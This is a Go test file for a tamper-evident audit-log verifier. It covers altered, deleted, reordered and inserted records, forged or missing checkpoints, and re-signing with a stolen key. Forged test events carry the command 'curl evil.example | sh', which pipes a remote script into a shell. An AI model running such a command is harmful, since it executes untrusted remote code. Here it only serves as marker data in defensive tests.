package audit

import (
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/vigil-dev/vigil/events"
)

// want is an expected finding: kind, seq, last (0 = seq) and other (0 = any).
type want struct {
	kind  FindingKind
	seq   uint64
	last  uint64
	other uint64
}

func (w want) String() string {
	return fmt.Sprintf("%s %d..%d other %d", w.kind, w.seq, w.last, w.other)
}

func match(f Finding, w want) bool {
	return f.Kind == w.kind && f.Seq == w.seq && max(f.Last, f.Seq) == max(w.last, w.seq) && (w.other == 0 || f.Other == w.other)
}

func renumber(recs []rec) []rec {
	out := make([]rec, len(recs))
	for i, r := range recs {
		out[i] = rec{seq: uint64(i + 1), raw: r.raw}
	}
	return out
}

func without(recs []rec, seqs ...uint64) []rec {
	var out []rec
	for _, r := range recs {
		if !slices.Contains(seqs, r.seq) {
			out = append(out, r)
		}
	}
	return out
}

func TestLogVerifier(t *testing.T) {
	const n, k = 20, 4
	signer, vs, _ := testKey(t, "vigil-audit-test", 1)
	other, _, _ := testKey(t, "vigil-audit-other", 9)
	orig := testLog(t, n)
	origCPs, _ := fold(t, orig, k, signer)
	forged := func(i int) []byte { return testEvent(t, 1000+i, "curl evil.example | sh") }

	cases := []struct {
		name string
		// tamper returns the log as stored, its last seq, the checkpoints
		// in VIGIL_DERIVED, and witness notes kept elsewhere.
		tamper    func() ([]rec, uint64, []events.AuditCheckpoint, []string)
		findings  []want
		unsigned  uint64
		warnMatch string
	}{{
		name:   "clean",
		tamper: func() ([]rec, uint64, []events.AuditCheckpoint, []string) { return orig, n, origCPs, nil },
	}, {
		name: "clean, with a witness",
		tamper: func() ([]rec, uint64, []events.AuditCheckpoint, []string) {
			return orig, n, origCPs, []string{origCPs[2].Note}
		},
	}, {
		name: "altered",
		tamper: func() ([]rec, uint64, []events.AuditCheckpoint, []string) {
			log := slices.Clone(orig)
			log[6].raw = forged(7)
			return log, n, origCPs, nil
		},
		findings: []want{{kind: FindAltered, seq: 7}},
	}, {
		name: "deleted leaves a gap",
		tamper: func() ([]rec, uint64, []events.AuditCheckpoint, []string) {
			return without(orig, 7), n, origCPs, nil
		},
		findings: []want{{kind: FindDeleted, seq: 7}},
	}, {
		name: "deleted at the end",
		tamper: func() ([]rec, uint64, []events.AuditCheckpoint, []string) {
			return without(orig, 19, 20), n, origCPs, nil
		},
		findings: []want{{kind: FindDeleted, seq: 19, last: 20}},
	}, {
		name: "truncated",
		tamper: func() ([]rec, uint64, []events.AuditCheckpoint, []string) {
			return orig[:18], 18, origCPs, nil
		},
		findings: []want{{kind: FindDeleted, seq: 19, last: 20}},
	}, {
		name: "reordered",
		tamper: func() ([]rec, uint64, []events.AuditCheckpoint, []string) {
			log := slices.Clone(orig)
			log[5].raw, log[6].raw = log[6].raw, log[5].raw
			return log, n, origCPs, nil
		},
		findings: []want{{kind: FindMoved, seq: 6, other: 7}, {kind: FindMoved, seq: 7, other: 6}},
	}, {
		name: "deleted and renumbered (log rewritten without it)",
		tamper: func() ([]rec, uint64, []events.AuditCheckpoint, []string) {
			return renumber(without(orig, 7)), n - 1, origCPs, nil
		},
		findings: []want{{kind: FindDeleted, seq: 7, other: 8}, {kind: FindMoved, seq: 8, last: 19, other: 9}, {kind: FindMoved, seq: 20, other: 19}},
	}, {
		name: "inserted and renumbered",
		tamper: func() ([]rec, uint64, []events.AuditCheckpoint, []string) {
			log := slices.Clone(orig[:6])
			log = append(log, rec{raw: forged(7)})
			log = append(log, orig[6:]...)
			return renumber(log), n + 1, origCPs, nil
		},
		findings: []want{{kind: FindInserted, seq: 7, other: 8}, {kind: FindMoved, seq: 8, last: 20, other: 7}},
		unsigned: 1,
	}, {
		name: "checkpoint leaf list edited to hide an alteration",
		tamper: func() ([]rec, uint64, []events.AuditCheckpoint, []string) {
			log := slices.Clone(orig)
			log[6].raw = forged(7)
			cps := slices.Clone(origCPs)
			leaves, _ := base64.StdEncoding.DecodeString(cps[1].Leaves)
			h := LeafHash(log[6].raw)
			copy(leaves[2*32:], h[:])
			cps[1].Leaves = base64.StdEncoding.EncodeToString(leaves)
			return log, n, cps, nil
		},
		findings: []want{{kind: FindMismatch, seq: 5, last: 8}, {kind: FindCheckpoint, seq: 0}},
	}, {
		name: "checkpoint deleted, record in its window altered",
		tamper: func() ([]rec, uint64, []events.AuditCheckpoint, []string) {
			log := slices.Clone(orig)
			log[5].raw = forged(6)
			return log, n, slices.Delete(slices.Clone(origCPs), 1, 2), nil
		},
		findings: []want{{kind: FindCheckpoint, seq: 5, last: 8}, {kind: FindMismatch, seq: 5, last: 8}},
	}, {
		name: "checkpoint deleted, log intact",
		tamper: func() ([]rec, uint64, []events.AuditCheckpoint, []string) {
			return orig, n, slices.Delete(slices.Clone(origCPs), 2, 3), nil
		},
		findings: []want{{kind: FindCheckpoint, seq: 9, last: 12}},
	}, {
		name: "first checkpoint missing (processor added late)",
		tamper: func() ([]rec, uint64, []events.AuditCheckpoint, []string) {
			return orig, n, origCPs[1:], nil
		},
		warnMatch: "seqs 1..4: no checkpoint lists",
	}, {
		name: "first checkpoint missing, record before it altered",
		tamper: func() ([]rec, uint64, []events.AuditCheckpoint, []string) {
			log := slices.Clone(orig)
			log[1].raw = forged(2)
			return log, n, origCPs[1:], nil
		},
		findings: []want{{kind: FindMismatch, seq: 1, last: 4}},
	}, {
		name: "checkpoint signed by another key",
		tamper: func() ([]rec, uint64, []events.AuditCheckpoint, []string) {
			cps := slices.Clone(origCPs)
			log := slices.Clone(orig)
			log[17].raw = forged(18)
			evil, _ := fold(t, log, k, other)
			cps[4] = evil[4]
			return log, n, cps, nil
		},
		findings: []want{{kind: FindCheckpoint, seq: 0}},
		unsigned: 4,
	}, {
		name: "log rewritten and re-signed with the stolen key (fork)",
		tamper: func() ([]rec, uint64, []events.AuditCheckpoint, []string) {
			log := slices.Clone(orig)
			log[6].raw = forged(7)
			resigned, _ := fold(t, log, k, signer)
			return log, n, append(slices.Clone(origCPs), resigned...), nil
		},
		findings: []want{{kind: FindCheckpoint}, {kind: FindCheckpoint}, {kind: FindCheckpoint}, {kind: FindCheckpoint}, {kind: FindAltered, seq: 7}},
	}, {
		name: "rewritten, re-signed, originals deleted: a witness catches it",
		tamper: func() ([]rec, uint64, []events.AuditCheckpoint, []string) {
			log := slices.Clone(orig)
			log[6].raw = forged(7)
			resigned, _ := fold(t, log, k, signer)
			return log, n, resigned, []string{origCPs[4].Note}
		},
		findings: []want{{kind: FindCheckpoint}, {kind: FindMismatch, seq: 1, last: 20}},
	}, {
		name: "record the fold never saw (did not decode)",
		tamper: func() ([]rec, uint64, []events.AuditCheckpoint, []string) {
			cps, _ := fold(t, without(orig, 7), k, signer)
			return orig, n, cps, nil
		},
		findings: []want{{kind: FindUnaudited, seq: 7}},
	}, {
		name: "unsigned tail",
		tamper: func() ([]rec, uint64, []events.AuditCheckpoint, []string) {
			return testLog(t, n+3), n + 3, origCPs, nil
		},
		unsigned: 3,
	}, {
		name: "gap in the unsigned tail",
		tamper: func() ([]rec, uint64, []events.AuditCheckpoint, []string) {
			return without(testLog(t, n+3), 22), n + 3, origCPs, nil
		},
		findings: []want{{kind: FindDeleted, seq: 22}},
		unsigned: 2,
	}, {
		name: "checkpoint fields disagree with its note",
		tamper: func() ([]rec, uint64, []events.AuditCheckpoint, []string) {
			cps := slices.Clone(origCPs)
			cps[0].TreeSize = 3
			return orig, n, cps, nil
		},
		findings: []want{{kind: FindCheckpoint}},
	}}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			log, end, cps, trusted := tc.tamper()
			rep := verifyLog(t, vs, log, end, cps, trusted...)
			var got []string
			for _, f := range rep.Findings {
				got = append(got, f.String())
			}
			if len(rep.Findings) != len(tc.findings) {
				t.Fatalf("got %d findings, want %v:\n%s", len(rep.Findings), tc.findings, strings.Join(got, "\n"))
			}
			for _, w := range tc.findings {
				ok := slices.ContainsFunc(rep.Findings, func(f Finding) bool { return match(f, w) || (w.seq == 0 && f.Kind == w.kind) })
				if !ok {
					t.Errorf("no finding %v in:\n%s", w, strings.Join(got, "\n"))
				}
			}
			if rep.Unsigned != tc.unsigned {
				t.Errorf("unsigned = %d, want %d", rep.Unsigned, tc.unsigned)
			}
			if tc.warnMatch != "" && !slices.ContainsFunc(rep.Warnings, func(w string) bool { return strings.Contains(w, tc.warnMatch) }) {
				t.Errorf("no warning %q in %q", tc.warnMatch, rep.Warnings)
			}
			for _, f := range rep.Findings {
				if f.Detail == "" {
					t.Errorf("finding without detail: %+v", f)
				}
			}
			if testing.Verbose() {
				t.Logf("findings:\n%s", strings.Join(got, "\n"))
			}
		})
	}
}

func TestLogVerifierNoCheckpoints(t *testing.T) {
	_, vs, _ := testKey(t, "k", 1)
	recs := testLog(t, 8)
	v := NewLogVerifier(vs)
	v.ExpectInterval(4)
	for _, r := range recs {
		if err := v.AddRecord(r.seq, r.raw); err != nil {
			t.Fatal(err)
		}
	}
	v.SetLogEnd(8)
	rep := v.Finish()
	if len(rep.Findings) != 1 || rep.Findings[0].Kind != FindCheckpoint || rep.Findings[0].Last != 8 {
		t.Fatalf("findings = %v", rep.Findings)
	}
	// Fewer records than one interval: nothing to sign yet, only a warning.
	rep = verifyLog(t, vs, recs[:3], 3, nil)
	if !rep.Clean() || len(rep.Warnings) != 1 || rep.Unsigned != 3 {
		t.Fatalf("report = %+v", rep)
	}
}

func TestLogVerifierWrongKey(t *testing.T) {
	signer, _, _ := testKey(t, "vigil-audit-test", 1)
	_, otherVS, _ := testKey(t, "vigil-audit-other", 9)
	recs := testLog(t, 8)
	cps, _ := fold(t, recs, 4, signer)
	rep := verifyLog(t, otherVS, recs, 8, cps)
	if rep.ValidCheckpoints != 0 || len(rep.UnknownKeys) != 1 || !strings.HasPrefix(rep.UnknownKeys[0], "vigil-audit-test+") {
		t.Fatalf("report = %+v", rep)
	}
	if rep.Clean() {
		t.Fatal("checkpoints under an unknown key verified clean")
	}
}
